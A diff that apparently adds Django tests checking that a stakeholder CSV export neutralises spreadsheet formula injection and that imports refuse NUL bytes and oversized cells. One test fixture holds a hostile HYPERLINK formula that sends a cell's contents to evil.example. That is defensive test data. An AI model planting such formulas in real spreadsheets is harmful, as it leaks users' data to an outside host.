@@ -80,3 +80,43 @@ def test_only_editors_may_export_or_import(client, demo):
     client.force_login(User.objects.create_user(email="member@example.org", password="x" * 12))
     assert client.get(reverse("hub_stakeholders_export")).status_code in (302, 403)
     assert client.get(reverse("hub_stakeholders_import")).status_code in (302, 403)
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_import_back_unchanged(client, demo, editor):
+    client.force_login(editor)
+    unicef = Stakeholder.objects.get(code="unicef", locale__language_code="en")
+    hostile = {
+        "name": '=HYPERLINK("https://evil.example/?x="&A1,"UNICEF")',
+        "acronym": "+1+1",
+        "description": "@SUM(1,1) and -2+3",
+        "website": "",
+    }
+    Stakeholder.objects.filter(pk=unicef.pk).update(**hostile)
+
+    exported = rows_of(client.get(reverse("hub_stakeholders_export")))
+    row = next(row for row in exported if row["code"] == "unicef")
+    for column in ("name", "acronym", "description"):
+        assert row[column] == "'" + hostile[column], column
+    every_cell = [cell for exported_row in exported for cell in exported_row.values()]
+    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    assert upload(client, exported).status_code == 302
+    unicef.refresh_from_db()
+    assert {column: getattr(unicef, column) for column in hostile} == hostile
+
+
+def test_a_file_with_a_nul_byte_or_a_huge_cell_is_refused_with_its_line_and_changes_nothing(client, demo, editor):
+    client.force_login(editor)
+    before = list(Stakeholder.objects.order_by("pk").values_list("code", "name"))
+    content = (",".join(COLUMNS) + "\nnew-partner,New\x00partner,,,,,,,\n").encode("utf-8")
+
+    response = client.post(reverse("hub_stakeholders_import"), {"file": SimpleUploadedFile("s.csv", content)})
+
+    assert response.status_code == 200
+    assert "Line 2 holds a NUL byte" in response.content.decode()
+    assert list(Stakeholder.objects.order_by("pk").values_list("code", "name")) == before
+
+    huge = (",".join(COLUMNS) + '\nnew-partner,"' + "x" * 200_000 + '",,,,,,,\n').encode("utf-8")
+    response = client.post(reverse("hub_stakeholders_import"), {"file": SimpleUploadedFile("s.csv", huge)})
+    assert "Line 2 cannot be read as CSV" in response.content.decode()
+    assert list(Stakeholder.objects.order_by("pk").values_list("code", "name")) == before
